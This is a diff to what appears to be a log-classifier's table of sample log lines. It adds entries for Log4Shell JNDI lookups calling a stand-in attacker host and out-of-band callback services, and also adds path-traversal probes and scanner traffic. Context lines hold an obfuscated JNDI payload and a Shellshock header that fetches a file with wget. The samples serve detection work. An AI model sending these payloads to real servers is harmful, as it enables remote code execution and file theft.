@@ -384,7 +384,8 @@ FAMILIES = {
     ]),
     "web exploit": ((0x7010,), [
         # Log4Shell: in the request, a header; obfuscated, encoded.
-        _WEB + '/?x=%24%7Bjndi%3Adns%3A%2F%2F60eca300c6.oast.fun%2Fa%7D HTTP/1.1" 200 1 "-" "M"',
+        _WEB + '/?x=%24%7Bjndi%3Adns%3A%2F%2F60eca300c6.attacker.example%2Fa%7D HTTP/1.1" 200 1'
+        ' "-" "M"',
         _WEB + '/ HTTP/1.1" 200 1 "-" "${jndi:ldap://82.212.123.41:1389/a}"',
         _WEB + '/ HTTP/1.1" 404 1 "${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://1.2.3.4/x}" "M"',
         # Spring4Shell, PHP-CGI, PHPUnit, Struts' OGNL, ThinkPHP, GPON,
@@ -440,6 +441,12 @@ FAMILIES = {
         _OK + '/node/12?destination=admin/content&form_id=post_render_settings HTTP/1.1" 200 1'
         ' "-" "Mozilla/5.0"',
     ]),
+    # An exploit calling back to a scanner's out-of-band server (nuclei's
+    # interactsh, Burp Collaborator): the exploit and the scanner.
+    "web exploit with a scanner's callback": ((0x7010, 0x7014), [
+        _WEB + '/?x=%24%7Bjndi%3Adns%3A%2F%2F60eca300c6.oast.fun%2Fa%7D HTTP/1.1" 200 1 "-" "M"',
+        _WEB + '/ HTTP/1.1" 200 1 "-" "${jndi:ldap://ct4vqm0o.interact.sh/a}"',
+    ], []),
     "web Shellshock": ((0x7010,), [
         _WEB + '/cgi-bin/status HTTP/1.1" 200 1024 "-" "() { :; }; /bin/bash -c \\"wget'
         ' http://61.2.3.4/x\\""',
@@ -467,6 +474,8 @@ FAMILIES = {
         _HAPROXY6 % 200 + '/index.php?page=%2e%2e%2f%2e%2e%2fetc%2fpasswd HTTP/1.1"',
         # A client gone before the response (status -1), a line cut at
         # HAProxy's length limit (no closing quote).
+        # nginx escapes a backslash (\\x5C).
+        _SYSLOG_WEB + '/static?file=C:\\x5CWindows\\x5Cwin.ini HTTP/1.1" 500 604 "-" "M"',
         _HAPROXY % -1 + '/cgi-bin/x?f=../../../../etc/passwd HTTP/1.1"',
         _HAPROXY % 200 + '/cgi-bin/x?f=../../../../etc/passwd&pad=aaaaaaaaaaaaaaaa',
     ], [
@@ -616,6 +625,20 @@ FAMILIES = {
         _SYSLOG_WEB + '/w00tw00t.at.ISC.SANS.DFind:) HTTP/1.1" 400 1024 "-" "-"',
         _HAPROXY % 404 + '/.git/config HTTP/1.1"',
         _HAPROXY6 % 404 + '/nice%20ports%2C/Tri%6Eity.txt%2ebak HTTP/1.0"',
+        # Out-of-band callbacks (interactsh, Burp Collaborator), in the URL or
+        # the referrer; internet-wide scanners' user agents.
+        _WEB + '/proxy?url=http%3A%2F%2F16vwx3ymdv8p.burpcollaborator.net%2F HTTP/1.1" 302 2'
+        ' "-" "Mozilla/5.0"',
+        _WEB + '/ HTTP/1.1" 200 6847 "http://7l4dqijovmw8.interact.sh/ref" "Mozilla/5.0"',
+        _HAPROXY % 404 + '/?url=http%3A%2F%2Fp8795jvfadoh.oast.fun%2F HTTP/1.1"',
+        _WEB + '/ HTTP/1.1" 200 1 "-" "Mozilla/5.0 (compatible; Odin; https://docs.getodin.com/)"',
+        _WEB + '/ HTTP/1.1" 200 1 "-" "Mozilla/5.0 (compatible; InternetMeasurement/1.0;'
+        ' +https://internet-measurement.com/)"',
+        # A sensitive file looked for, in the error logs.
+        "[Thu Dec 05 10:54:22.500991 2024] [core:info] [pid 21877:tid 1401] [client"
+        " 2001:db8:bad::17:37442] AH00128: File does not exist: /var/www/html/.git/config",
+        _NGINX + 'open() "/var/www/html/.DS_Store" failed (2: No such file or directory)'
+        + _NGINX_TAIL,
         # DFind's probe has no Host header: Apache 2.2's error, 2.4's debug message.
         "[Fri Mar 08 05:22:28 2024] [error] [client 61.2.3.4] client sent HTTP/1.1 request"
         " without hostname (see RFC2616 section 14.23): /w00tw00t.at.ISC.SANS.DFind:)",
@@ -631,6 +654,12 @@ FAMILIES = {
         _OK + '/blog/what-is-a-.env-file HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         _OK + '/.well-known/security.txt HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         _HAPROXY_OK % 200 + '/blog/what-is-a-.env-file HTTP/1.1"',
+        _OK + '/blog/how-oast.fun-callbacks-work HTTP/1.1" 200 1 "-" "Mozilla/5.0"',
+        _OK + '/ HTTP/1.1" 200 1 "-" "Mozilla/5.0 (compatible; Odin-reader/1.0)"',
+        "[Thu Dec 05 10:54:22.500991 2024] [core:info] [pid 21877:tid 1401] [client"
+        " 10.1.2.3:37442] AH00128: File does not exist: /var/www/html/favicon.ico",
+        _NGINX + 'open() "/var/www/html/robots.txt" failed (2: No such file or directory)'
+        + _NGINX_TAIL,
     ]),
     "mail login failure": ((0x1027,), [
         # OpenSMTPD.
@@ -934,6 +963,8 @@ FAMILIES = {
         _WEB[:-4] + '\\x16\\x03\\x01\\x00\\xa5\\x01\\x00\\x00\\xa1\\x03\\x03" 400 226'
         ' "-" "-"',
         _WEB[:-4] + 'SSH-2.0-Go" 400 215 "-" "-"',
+        # (Apache escapes a quote among the bytes.)
+        _WEB[:-4] + '\\x16\\x03\\x01\\x02\\x1e\\x06\\"\\x0f\\t0\\xe3" 400 210',
         _SYSLOG_WEB[:-4] + 't3 12.2.1\\x0AAS:255\\x0AHL:19\\x0AMS:10000000\\x0A\\x0A" 400 326'
         ' "-" "-"',
         _WEB[:-4] + 't3 12.2.1\\nAS:255\\nHL:19\\n\\n" 400 211 "-" "-"',
